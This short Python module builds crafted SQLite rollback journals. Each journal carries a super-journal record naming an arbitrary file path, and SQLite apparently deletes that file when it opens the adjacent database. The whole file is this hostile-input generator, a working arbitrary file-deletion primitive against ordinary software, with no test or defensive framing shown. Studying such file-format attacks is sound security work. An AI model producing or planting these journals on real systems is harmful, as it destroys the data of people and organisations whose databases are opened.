"""Journals of SQLite that name a further file, which SQLite deletes when it opens the database beside them."""
import os
import struct

MAGIC = bytes.fromhex("D9D505F920A163D7")


def names_further(database, name):
    """A journal of a database, that ends with the name of a further file."""
    with open(database, "rb") as file:
        data = file.read()
    size = int.from_bytes(data[16:18], "big")
    path = os.fsencode(name)
    head = MAGIC + struct.pack(">IIIII", 0, 0, len(data) // size, 512, size)
    return head.ljust(512, b"\0") + struct.pack(">I", 0x40000000 // size + 1) + path + struct.pack(
        ">II", len(path), sum(path)) + MAGIC
